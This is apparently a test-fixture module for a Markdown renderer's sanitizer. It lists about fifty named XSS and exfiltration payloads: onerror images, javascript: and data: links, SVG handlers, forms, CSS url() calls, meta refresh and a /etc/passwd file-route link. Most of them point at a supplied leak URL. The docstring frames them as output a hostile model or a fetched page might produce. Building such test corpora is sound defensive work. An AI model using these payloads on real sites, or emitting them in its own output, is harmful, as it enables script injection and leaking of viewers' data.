"""Markdown a hostile model (or a page a tool fetched) might write to get HTML onto a viewer's page,
or make the viewer's browser fetch another host. `corpus(leak)` names that host in every item."""

from __future__ import annotations

INJECTED = "<img src=x onerror=alert(1)>"

PARSER_DISAGREEMENTS = {
    # Where the hand-written "is this code?" scanner the renderer replaced disagreed with Markdown.
    "escaped backtick": f"a \\` b {INJECTED} ` c",
    "code span across a blank line": f"a ` b\n\n{INJECTED}\n\nc ` d",
    "fence whose info string holds a backtick": f"```a`b\n{INJECTED}\n```",
}


def corpus(leak: str) -> dict[str, str]:
    """Each attack by name; `leak` is a URL on a host the page must never contact."""
    return {
        **PARSER_DISAGREEMENTS,
        "img onerror": f"<img src={leak}/img onerror=alert(1)>",
        "markdown image": f"![chart]({leak}/markdown-image)",
        "reference image": f"![chart][r]\n\n[r]: {leak}/reference-image",
        "image in a link": f"[![x]({leak}/linked-image)](https://example.com)",
        "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "nested html": f"<div><p><b><img src={leak}/nested></b></p></div>",
        "tag split by a tag": f"<<img>img src={leak}/split>",
        "html block in a list": f"- item\n\n  <img src={leak}/list>\n\n- other",
        "html in a table": f"| a |\n|---|\n| <img src={leak}/cell> |",
        "html in a blockquote": f"> <iframe src={leak}/quote></iframe>",
        "entity-encoded tag": f"&lt;img src={leak}/entity&gt; &#60;img src={leak}/numeric&#62;",
        "double-encoded entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "javascript link": "[click](javascript:alert(1))",
        "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
        "javascript link, entities": "[click](&#106;avascript:alert(1))",
        "javascript link, tab": "[click](java\tscript:alert(1))",
        "javascript autolink": "<javascript:alert(1)>",
        "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "vbscript link": "[click](vbscript:msgbox(1))",
        "relative link to the file route": "[file](/gradio_api/file=/etc/passwd)",
        "protocol-relative link": f"[x]({leak.replace('http:', '')}/protocol-relative)",
        "raw anchor": f'<a href="{leak}/anchor" onclick="alert(1)">x</a>',
        "form": f"<form action={leak}/form method=post><input name=key><button>Continue</button></form>",
        "input": f"<input type=image src={leak}/input>",
        "video poster": f"<video poster={leak}/poster><source src={leak}/source></video>",
        "audio": f"<audio src={leak}/audio autoplay></audio>",
        "style attribute": f'<div style="position:fixed;inset:0;background:url({leak}/style)">cover</div>',
        "style element": f"<style>body{{background:url({leak}/style-element)}}</style>",
        "link element": f"<link rel=stylesheet href={leak}/link>",
        "svg": f"<svg onload=alert(1)><image href={leak}/svg-image /></svg>",
        "svg use": f'<svg><use href="{leak}/use#x"></use></svg>',
        "math": f"<math><mtext><img src={leak}/math></mtext></math>",
        "iframe": f"<iframe srcdoc='<img src={leak}/srcdoc>'></iframe>",
        "object": f"<object data={leak}/object></object>",
        "base": f"<base href={leak}/>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url={leak}/refresh'>",
        "script": "<script>alert(1)</script>",
        "event handler on an allowed tag": "<p onmouseover=alert(1)>hover</p>",
        "unclosed tag": f"<img src={leak}/unclosed onerror=alert(1)",
        "unclosed comment": f"<!-- <img src={leak}/comment>",
        "cdata": f"<![CDATA[<img src={leak}/cdata>]]>",
        "mermaid class": "<div class=mermaid>graph TD; A-->B</div>",
        "tilde fence": f"~~~html\n<img src={leak}/tilde>\n~~~",
        "fence inside a list": f"1. step\n   ```\n   <img src={leak}/fence-list>\n   ```",
        "latex": f"$$\\href{{{leak}/katex}}{{x}}$$",
        "details": f"<details open><summary>s</summary><img src={leak}/details></details>",
    }
